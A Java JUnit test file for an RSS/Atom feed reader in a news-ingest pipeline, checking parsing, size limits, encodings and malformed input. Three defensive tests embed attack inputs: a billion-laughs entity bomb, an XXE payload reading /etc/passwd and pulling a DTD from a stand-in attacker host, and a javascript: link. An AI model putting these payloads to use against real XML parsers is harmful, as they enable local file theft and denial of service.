package org.sitrep.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.sitrep.ingest.IngestFixtures.ok;
import static org.sitrep.ingest.IngestFixtures.problem;
import static org.sitrep.ingest.IngestFixtures.text;
import static org.sitrep.ingest.IngestFixtures.utf8;
import static org.sitrep.ingest.IngestFixtures.warnings;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.nio.charset.Charset;
import java.time.Duration;
import java.time.LocalDate;
import java.util.Collections;
import java.util.Iterator;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.sitrep.pipeline.DocResult;
import org.sitrep.pipeline.Problem;
import org.sitrep.pipeline.ProblemCode;

class FeedReaderTest {
  private final FeedReader reader = new FeedReader(DocumentReader.DEFAULT_MAX_BYTES);

  private static List<DocResult<Source>> read(FeedReader reader, String file, byte[] bytes) {
    return reader.read(file, new ByteArrayInputStream(bytes)).toList();
  }

  private List<DocResult<Source>> read(String file, String xml) { return read(reader, file, utf8(xml)); }

  @Test
  void readsRssItemsPreferringFullContentAndTurningItsHtmlIntoText() {
    List<DocResult<Source>> items = read(reader, "feed.rss", IngestFixtures.bytes("feed.rss"));
    assertThat(items).extracting(IngestFixtures::name)
        .containsExactly("feed.rss#1", "feed.rss#2", "feed.rss#3", "feed.rss#4");

    Source first = ok(items.get(0));
    assertThat(first.title()).contains("Gunmen kill 11 bus passengers in Balochistan");
    assertThat(first.url()).contains("https://ledger.example.org/world/quetta-bus-attack");
    assertThat(first.published()).contains(LocalDate.of(2024, 3, 5));
    assertThat(first.sourceName()).contains("The Frontier Ledger: World");
    assertThat(text(first)).isEqualTo("Gunmen kill 11 bus passengers in Balochistan\n\n"
        + "QUETTA, Pakistan — Gunmen stopped a passenger bus on a highway on Tuesday and killed 11 people, police "
        + "said.\n\nAt least four other passengers were wounded.");

    Source second = ok(items.get(1));
    assertThat(second.title()).contains("Three police officers wounded in grenade attack & gunfight");
    assertThat(second.published()).contains(LocalDate.of(2024, 3, 4));
    assertThat(text(second)).endsWith("\n\nA grenade was thrown at a police post in Peshawar on Monday, wounding "
        + "three officers.\n\nThe attackers fled.");

    Source third = ok(items.get(2));
    assertThat(third.sourceName()).contains("Example Wire");
    assertThat(third.published()).isEmpty();
    assertThat(warnings(items.get(2))).singleElement().satisfies(w -> {
      assertThat(w.code()).isEqualTo(ProblemCode.INVALID_DATE);
      assertThat(w.input()).isEqualTo("feed.rss#3");
    });
    assertThat(text(third)).isEqualTo("Curfew lifted in border town\n\n"
        + "Authorities lifted a three-day curfew on Sunday.\n\nShops reopened in the morning.");

    Problem fourth = problem(items.get(3));
    assertThat(fourth.code()).isEqualTo(ProblemCode.NO_TEXT);
    assertThat(fourth.input()).isEqualTo("feed.rss#4");
    assertThat(fourth.detail()).contains("Photo gallery");
  }

  @Test
  void readsAtomEntriesFromEscapedHtmlInlineXhtmlOrSummary() {
    List<DocResult<Source>> entries = read(reader, "feed.atom", IngestFixtures.bytes("feed.atom"));
    assertThat(entries).hasSize(3);

    Source first = ok(entries.get(0));
    assertThat(first.sourceName()).contains("Sahel Monitor");
    assertThat(first.url()).contains("https://monitor.example.net/2024/02/army-post");
    assertThat(first.published()).contains(LocalDate.of(2024, 2, 19));
    assertThat(text(first)).isEqualTo("Attack on army post leaves 20 soldiers dead\n\nMilitants attacked an army "
        + "post in northern Burkina Faso on Monday, killing 20 soldiers, the army said.\n\n"
        + "Reinforcements were sent to the area.");

    Source second = ok(entries.get(1));
    assertThat(second.title()).contains("Villagers flee after raid");
    assertThat(second.published()).contains(LocalDate.of(2024, 2, 18));
    assertThat(text(second)).isEqualTo("Villagers flee after raid\n\nHundreds of villagers fled after gunmen "
        + "raided a market on Saturday.\n\nLocal officials said seven people were killed.");

    assertThat(text(ok(entries.get(2)))).isEqualTo(
        "Talks resume in the capital\n\nGovernment and rebel delegates resumed talks on Friday.");
  }

  @Test
  void aBillionLaughsFeedExpandsNothingAndFinishesQuickly() {
    StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n <!ENTITY lol \"lol\">\n");
    for (int i = 1; i <= 9; i++) {
      dtd.append(" <!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10))
          .append("\">\n");
    }
    String xml = dtd + "]>\n<rss><channel><title>&lol9;</title><item><title>Laughs &lol9;</title>"
        + "<description>Body &lol9; &amp; more</description></item></channel></rss>";
    List<DocResult<Source>> items = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> read("lol.xml", xml));
    assertThat(items).singleElement().satisfies(r -> {
      assertThat(text(ok(r))).isEqualTo("Laughs &lol9;\n\nBody &lol9; & more");
      assertThat(ok(r).sourceName()).contains("&lol9;");
    });
  }

  @Test
  void anExternalEntityIsNeverFetched() {
    String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">"
        + "<!ENTITY % remote SYSTEM \"http://attacker.invalid/x.dtd\"> %remote;]>\n"
        + "<rss><channel><item><title>T</title><description>Leak: &xxe;</description></item></channel></rss>";
    List<DocResult<Source>> items = read("xxe.rss", xml);
    assertThat(items).singleElement().satisfies(r -> {
      assertThat(text(ok(r))).isEqualTo("T\n\nLeak: &xxe;").doesNotContain("root:");
    });
  }

  @Test
  void xmlThatIsNotAFeedAndInputsWithoutAnyFeedAreProblemsNamingTheFile() {
    Problem notAFeed = problem(read("data.xml", "<?xml version='1.0'?><catalog><book>x</book></catalog>").get(0));
    assertThat(notAFeed.code()).isEqualTo(ProblemCode.UNSUPPORTED);
    assertThat(notAFeed.input()).isEqualTo("data.xml");
    assertThat(notAFeed.detail()).contains("<catalog>");

    assertThat(problem(read("text.xml", "just some words, no markup").get(0)).code())
        .isEqualTo(ProblemCode.MALFORMED);
    assertThat(problem(read("e.rss", "").get(0)).code()).isEqualTo(ProblemCode.EMPTY);
    assertThat(problem(read("noitems.rss", "<rss><channel><title>x</title></channel></rss>").get(0)).detail())
        .isEqualTo("an RSS feed with no items");
    assertThat(problem(read(reader, "bin.xml", new byte[] {'<', 'r', 0, 1, 2, 3}).get(0)).code())
        .isEqualTo(ProblemCode.BINARY);
    assertThat(problem(read("enc.xml", "<?xml version='1.0' encoding='x-klingon'?><rss/>").get(0)).code())
        .isEqualTo(ProblemCode.UNDECODABLE);
  }

  @Test
  void garbageInsideAFeedSpoilsOnlyTheItemsItIsIn() {
    String xml = "<rss><channel><title>G</title>"
        + "<item><title>One</title><description>First report.</description></item>"
        + "<item><title>Two<<<</title>&&&&<description>\u0001 <b>Second <</description></garbage>&#xD800;</item>"
        + "<item><description>Third report.</description></item>"
        + "<item><title>cut off";
    List<DocResult<Source>> items = read("garbage.rss", xml);
    assertThat(items).extracting(IngestFixtures::name)
        .containsExactly("garbage.rss#1", "garbage.rss#2", "garbage.rss#3", "garbage.rss#4");
    assertThat(text(ok(items.get(0)))).isEqualTo("One\n\nFirst report.");
    assertThat(text(ok(items.get(2)))).isEqualTo("Third report.");
    assertThat(problem(items.get(3)).code()).isEqualTo(ProblemCode.NO_TEXT);
  }

  @Test
  void anItemOverTheLimitEndsTheFeedAfterTheItemsBeforeIt() {
    FeedReader small = new FeedReader(2000);
    String xml = "<rss><channel><item><title>A</title><description>Fine.</description></item>"
        + "<item><title>B</title><description>" + "word ".repeat(400_000) + "</description></item>"
        + "<item><title>C</title><description>Never read.</description></item></channel></rss>";
    List<DocResult<Source>> items = read(small, "big.rss", utf8(xml));
    assertThat(items).hasSize(2);
    assertThat(text(ok(items.get(0)))).isEqualTo("A\n\nFine.");
    assertThat(problem(items.get(1))).satisfies(p -> {
      assertThat(p.code()).isEqualTo(ProblemCode.TOO_LARGE);
      assertThat(p.input()).isEqualTo("big.rss#2");
      assertThat(p.detail()).contains("the limit is 2000 bytes");
    });
  }

  @Test
  void anItemJustOverTheLimitIsRefusedAndTheNextIsRead() {
    FeedReader small = new FeedReader(2000);
    String xml = "<rss><channel><item><title>A</title><description>" + "word ".repeat(500) + "</description>"
        + "</item><item><title>B</title><description>Fine.</description></item></channel></rss>";
    List<DocResult<Source>> items = read(small, "mid.rss", utf8(xml));
    assertThat(items).hasSize(2);
    assertThat(problem(items.get(0)).code()).isEqualTo(ProblemCode.TOO_LARGE);
    assertThat(text(ok(items.get(1)))).isEqualTo("B\n\nFine.");
  }

  @Test
  void aLongFeedIsStreamedItemByItem() {
    int count = 5_000;
    Iterator<InputStream> parts = IntStream.rangeClosed(0, count + 1).mapToObj(i -> {
      String s = i == 0 ? "<rss><channel><title>Long</title>" : i > count ? "</channel></rss>"
          : "<item><title>Item " + i + "</title><description>Report number " + i + ".</description></item>";
      return (InputStream) new ByteArrayInputStream(utf8(s));
    }).iterator();
    List<DocResult<Source>> items =
        reader.read("long.rss", new SequenceInputStream(Collections.enumeration(toList(parts)))).toList();
    assertThat(items).hasSize(count).allMatch(r -> r instanceof DocResult.Ok);
    assertThat(text(ok(items.get(count - 1)))).isEqualTo("Item 5000\n\nReport number 5000.");
    assertThat(ok(items.get(count - 1)).sourceName()).contains("Long");
  }

  private static List<InputStream> toList(Iterator<InputStream> it) {
    List<InputStream> out = new java.util.ArrayList<>();
    it.forEachRemaining(out::add);
    return out;
  }

  @Test
  void invalidBytesEndTheFeedWithAProblemAfterTheItemsBeforeThem() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.writeBytes(utf8("<rss><channel><item><title>A</title><description>Fine.</description></item>"));
    bytes.writeBytes(utf8("<pad>more than the parser reads ahead</pad>".repeat(3000)));
    bytes.writeBytes(utf8("<item><title>B</title><description>Bad "));
    bytes.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xFE});
    bytes.writeBytes(utf8("</description></item></channel></rss>"));
    List<DocResult<Source>> items = read(reader, "bad.rss", bytes.toByteArray());
    assertThat(items).hasSize(2);
    assertThat(text(ok(items.get(0)))).isEqualTo("A\n\nFine.");
    assertThat(problem(items.get(1))).satisfies(p -> {
      assertThat(p.code()).isEqualTo(ProblemCode.UNDECODABLE);
      assertThat(p.input()).isEqualTo("bad.rss#2");
    });
  }

  @Test
  void honoursTheDeclaredEncoding() {
    byte[] latin1 = ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><rss><channel><item><title>Caf\u00e9</title>"
        + "<description>Attaque \u00e0 Bamako.</description></item></channel></rss>")
        .getBytes(Charset.forName("ISO-8859-1"));
    assertThat(text(ok(read(reader, "latin1.rss", latin1).get(0)))).isEqualTo("Café\n\nAttaque à Bamako.");
  }

  @Test
  void readsRss1AndKeepsOnlyWebLinks() {
    String xml = "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'"
        + " xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>Old Feed</title></channel>"
        + "<item><title>X</title><link>javascript:alert(1)</link><dc:date>2005-07-21T10:00:00Z</dc:date>"
        + "<description>Riots in the suburbs.</description></item></rdf:RDF>";
    Source item = ok(read("old.rdf.xml", xml).get(0));
    assertThat(item.url()).isEmpty();
    assertThat(item.published()).contains(LocalDate.of(2005, 7, 21));
    assertThat(item.sourceName()).contains("Old Feed");
  }
}
